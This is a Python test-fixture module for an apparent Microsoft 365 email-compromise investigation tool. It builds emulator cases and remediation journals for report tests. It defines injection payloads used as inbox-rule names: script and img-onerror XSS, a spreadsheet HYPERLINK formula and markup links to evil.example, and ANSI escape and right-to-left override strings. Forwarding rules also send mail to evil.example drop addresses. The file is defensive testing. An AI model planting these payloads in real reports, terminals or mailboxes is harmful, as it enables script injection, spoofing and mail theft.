"""Cases for the report tests: real investigations against the emulator, a journal like remediation writes,
and a small deterministic case for the golden structure test."""

from __future__ import annotations

import asyncio
import copy
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from reclaim.collect import investigate
from reclaim.emulator import Emulator
from reclaim.emulator.scenarios import load_scenario
from reclaim.emulator.server import serve_in_thread
from reclaim.m365 import Connection, ConnectionSettings
from reclaim.report.screenshot import remediated_sample_case
from reclaim.store import REDACTED, NewFinding, NewTimelineEvent, Store
from tests.conftest import TenantClient

#: Rule names an attacker could choose: script, an image with onerror, a spreadsheet formula, rich markup,
#: ANSI / OSC escape sequences (screen clear, title change, hyperlink) and a right-to-left override.
SCRIPT_RULE = "<script>document.title='pwned';document.body.setAttribute('data-pwned','script')</script>"
IMG_RULE = "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">"
FORMULA_RULE = '=HYPERLINK("http://evil.example/x","Click me")'
MARKUP_RULE = "[bold red]OK[/bold red] **bold** [link](http://evil.example) ![i](http://evil.example/i.png)"
ANSI_RULE = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\ansi\u202egpj.exe"
HOSTILE_RULES = (SCRIPT_RULE, IMG_RULE, FORMULA_RULE, MARKUP_RULE, ANSI_RULE)
HOSTILE_UPN = "tom.berg@fabrikam.com"
ALICE = "alice.wu@contoso.com"


def unthrottled(name: str) -> dict[str, Any]:
    fixture = copy.deepcopy(load_scenario(name))
    fixture.setdefault("tenant", {}).setdefault("settings", {})["throttling"] = {"enabled": False}
    return fixture


def run_investigation(url: str, store: Store, upn: str) -> str:
    async def main() -> str:
        async with Connection.open(ConnectionSettings.for_endpoint(url)) as conn:
            return (await investigate(conn, store, upn, identity_protection_spacing=0)).case_id

    return asyncio.run(main())


def run_sweep(url: str, store: Store) -> str:
    from reclaim.sweep import SweepOptions, SweepTarget, sweep

    async def main() -> str:
        result = await sweep([SweepTarget("fabrikam", ConnectionSettings.for_endpoint(url))], store,
                             options=SweepOptions(identity_protection_spacing=0))
        return result.case_id

    return asyncio.run(main())


def run_hunt(url: str, store: Store, case_id: str) -> str:
    from reclaim.sweep.hunt import hunt, indicators_from_case

    async def main() -> str:
        async with Connection.open(ConnectionSettings.for_endpoint(url)) as conn:
            return (await hunt(conn, store, indicators_from_case(store, case_id))).case_id

    return asyncio.run(main())


def add_hostile_rules(emulator: Emulator, url: str, upn: str) -> None:
    """Through the emulator's Graph API, as an attacker would: rules that forward outside, hostile names."""
    client = TenantClient(emulator, url)
    try:
        for i, name in enumerate(HOSTILE_RULES):
            body = {"displayName": name, "sequence": 10 + i, "isEnabled": True,
                    "conditions": {"subjectContains": ["invoice"]},
                    "actions": {"redirectTo": [{"emailAddress": {"address": f"drop{i}@evil.example",
                                                                 "name": name}}],
                                "stopProcessingRules": True}}
            response = client.graph("POST", f"/users/{upn}/mailFolders/inbox/messageRules", json=body)
            assert response.status_code == 201, response.text
    finally:
        client.close()


def add_remediation_journal(store: Store, case_id: str, upn: str, user_id: str) -> None:
    """Journal entries in the shape reclaim's remediation writes: plan, snapshot, apply, verify."""
    now = datetime.now(UTC)
    before = store.add_evidence(case_id, "snapshot:block-sign-in", "graph",
                                {"method": "GET", "url": f"/users/{user_id}", "params": {"$select": "accountEnabled"}},
                                {"id": user_id, "accountEnabled": True}, now)
    plan = {"action": "block-sign-in", "target": user_id, "label": "Block sign-in", "phase": "contain",
            "reversible": True, "undo": "re-enables sign-in (accountEnabled back to its snapshot value)"}
    store.append_journal(case_id, action_id="block-sign-in", target=user_id, step="planned", request=plan,
                         operator="responder@contoso.com")
    store.append_journal(case_id, action_id="block-sign-in", target=user_id, step="snapshot",
                         before_evidence_id=before.id, operator="responder@contoso.com")
    patch = {"method": "PATCH", "url": f"/users/{user_id}", "body": {"accountEnabled": False}}
    store.append_journal(case_id, action_id="block-sign-in", target=user_id, step="applying", request=patch,
                         operator="responder@contoso.com", started_at=now)
    store.append_journal(case_id, action_id="block-sign-in", target=user_id, step="applied", request=patch,
                         result={"status": 204}, operator="responder@contoso.com", started_at=now)
    store.append_journal(case_id, action_id="block-sign-in", target=user_id, step="verified",
                         verify={"state": "held", "detail": "sign-in is blocked (accountEnabled=false)"},
                         operator="responder@contoso.com")
    reset = {"action": "reset-password", "target": upn, "label": "Reset the password", "phase": "contain",
             "reversible": False, "undo": "a password reset cannot be undone"}
    store.append_journal(case_id, action_id="reset-password", target=upn, step="planned", request=reset,
                         operator="responder@contoso.com")
    store.append_journal(case_id, action_id="reset-password", target=upn, step="applied",
                         request={"method": "PATCH", "url": f"/users/{user_id}",
                                  "body": {"passwordProfile": {"password": REDACTED,
                                                               "forceChangePasswordNextSignIn": True}}},
                         result={"status": 204, "delivered": "terminal"}, operator="responder@contoso.com")
    store.append_journal(case_id, action_id="reset-password", target=upn, step="verified",
                         verify={"state": "held", "detail": "lastPasswordChangeDateTime moved"},
                         operator="responder@contoso.com")
    rule_before = store.add_evidence(case_id, "snapshot:disable-inbox-rule", "graph",
                                     {"method": "GET", "url": "/messageRules/AQAAAMn_kpCTZ"},
                                     {"id": "AQAAAMn_kpCTZ", "displayName": ".", "isEnabled": True}, now)
    store.append_journal(case_id, action_id="disable-inbox-rule", target="AQAAAMn_kpCTZ", step="planned",
                         request={"label": "Disable inbox rule '.'", "reversible": True,
                                  "undo": "re-enables the rule"}, operator="responder@contoso.com")
    store.append_journal(case_id, action_id="disable-inbox-rule", target="AQAAAMn_kpCTZ", step="snapshot",
                         before_evidence_id=rule_before.id, operator="responder@contoso.com")
    store.append_journal(case_id, action_id="disable-inbox-rule", target="AQAAAMn_kpCTZ", step="applied",
                         request={"method": "PATCH", "body": {"isEnabled": False}}, result={"status": 200},
                         operator="responder@contoso.com")
    store.append_journal(case_id, action_id="disable-inbox-rule", target="AQAAAMn_kpCTZ", step="not_held",
                         verify={"state": "not held", "detail": "the rule is enabled again"},
                         operator="responder@contoso.com")
    store.append_journal(case_id, action_id="unblock-sender", target=upn, step="skipped",
                         result={"reason": "containment not verified: disable-inbox-rule did not hold"},
                         operator="responder@contoso.com")


@dataclass(frozen=True)
class Investigated:
    db: Path
    #: scenario / purpose → case id
    cases: dict[str, str]


def investigate_scenarios(db: Path) -> Investigated:
    """bec-classic's alice (then a remediation journal on a second case of her, and a third case remediated by
    reclaim's own remediation against the emulator), bec-campaign's tom.berg with
    hostile rule names added over Graph, bec-campaign's nina.fischer (an app name with ANSI escapes), and a
    clean user."""
    cases: dict[str, str] = {}
    store = Store(db)
    try:
        emulator = Emulator(unthrottled("bec-classic"))
        with serve_in_thread(emulator) as url:
            cases["bec-classic"] = run_investigation(url, store, ALICE)
            cases["journal"] = run_investigation(url, store, ALICE)
            cases["clean"] = run_investigation(url, store, "ben.carter@contoso.com")
            cases["remediated"] = remediated_sample_case(store, url, ALICE)
        user_id = str(store.get_case(cases["journal"]).summary["user"]["id"])
        add_remediation_journal(store, cases["journal"], ALICE, user_id)
        emulator = Emulator(unthrottled("bec-campaign"))
        with serve_in_thread(emulator) as url:
            add_hostile_rules(emulator, url, HOSTILE_UPN)
            cases["hostile"] = run_investigation(url, store, HOSTILE_UPN)
            cases["bec-campaign"] = run_investigation(url, store, "nina.fischer@fabrikam.com")
            cases["hunt"] = run_hunt(url, store, cases["hostile"])
            cases["sweep"] = run_sweep(url, store)
    finally:
        store.close()
    return Investigated(db, cases)


T0 = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


def synthetic_case(store: Store) -> str:
    """A small case with every section filled, fixed except for its storage times (for the golden test)."""
    case = store.create_case("investigate", "pat@contoso.com", tenant="contoso.com", since=T0 - timedelta(days=30),
                             until=T0 + timedelta(days=2), created_at=T0 + timedelta(days=2))
    ev = store.add_evidence(case.id, "graph_rules", "graph", {"method": "GET", "url": "/messageRules"},
                            [{"id": "r1", "displayName": SCRIPT_RULE}], T0)
    findings = [
        NewFinding("inbox-rule-hidden", "critical", f'Hidden inbox rule "{SCRIPT_RULE}" deletes mail.',
                   artifact_type="inboxRule", artifact_id="r1", evidence_ids=(ev.id,), user="pat@contoso.com",
                   evidence={"name": SCRIPT_RULE, "actions": {"delete": True}, "hidden": True,
                             "symptom": "inbox rules the user did not create", "time": T0.isoformat(),
                             "reasons": ["it is hidden", "it deletes mail"]}),
        NewFinding("mailbox-forwarding", "high", "The mailbox forwards all mail to x@evil.example.",
                   artifact_type="mailboxForwarding", artifact_id="u1",
                   evidence={"forwardingSmtpAddress": "smtp:x@evil.example", "deliverToMailboxAndForward": False,
                             "symptom": "remove mailbox forwarding", "time": None,
                             "reasons": ["forwarded outside"]}),
        NewFinding("sign-in-anomalies", "medium", f"Suspicious sign-in from 203.0.113.9 (NG) {ANSI_RULE}",
                   artifact_type="signIn", artifact_id="s1",
                   evidence={"ipAddress": "203.0.113.9", "country": "NG", "clientAppUsed": "IMAP4",
                             "symptom": "people receive mail the user did not send",
                             "time": (T0 - timedelta(hours=1)).isoformat(), "reasons": ["new country"]}),
        NewFinding("mailbox-delegate-added", "info", "bob can read this mailbox.", artifact_type="mailboxPermission",
                   artifact_id="bob", evidence={"trustee": "bob@contoso.com", "symptom": "beyond the procedure"}),
        NewFinding("mfa-not-required", "medium", "MFA is not required.", kind="exposure", artifact_type="user",
                   artifact_id="u1", evidence={"symptom": "advice: MFA", "reasons": ["no policy"]}),
    ]
    store.add_findings(case.id, findings)
    store.record_not_collected(case.id, "message_trace", "missing permission ReportingWebService.Read.All")
    store.add_timeline(case.id, [
        NewTimelineEvent(T0 - timedelta(hours=1), "signIn", "Sign-in from 203.0.113.9 (NG) with IMAP4"),
        NewTimelineEvent(T0, "finding", f'Hidden inbox rule "{SCRIPT_RULE}" deletes mail.', artifact_type="inboxRule",
                         artifact_id="r1", source="inbox-rule-hidden"),
        NewTimelineEvent(T0 + timedelta(hours=1), "auditRecord", f"Audit: New-InboxRule {FORMULA_RULE}"),
    ])
    summary = {"verdict": "compromised", "because": "2 high or critical compromise indicator(s)",
               "notChecked": [{"check": "outbound-spike", "reason": "message trace not collected"}],
               "suspiciousWindow": {"since": (T0 - timedelta(hours=1)).isoformat(),
                                    "until": (T0 + timedelta(days=2)).isoformat()},
               "user": {"id": "u1", "userPrincipalName": "pat@contoso.com", "displayName": IMG_RULE}}
    store.set_verdict(case.id, "compromised", summary=summary)
    add_remediation_journal(store, case.id, "pat@contoso.com", "u1")
    return case.id
